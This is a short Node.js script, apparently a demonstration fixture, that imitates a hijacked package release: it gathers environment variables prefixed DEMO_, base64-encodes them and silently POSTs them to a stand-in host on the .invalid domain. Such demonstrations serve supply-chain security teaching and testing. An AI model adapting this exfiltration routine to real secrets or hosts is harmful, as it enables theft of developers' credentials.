'use strict';

// Imitates what a taken-over release adds. It takes nothing but variables that begin with DEMO_, and the host does not exist.
const https = require('https');

const found = Object.keys(process.env).filter((key) => key.startsWith('DEMO_'));
const body = Buffer.from(JSON.stringify(found.map((key) => [key, process.env[key]]))).toString('base64');

const request = https.request('https://names.color-cdn.invalid/collect', { method: 'POST' });
request.on('error', () => {});
request.end(body);
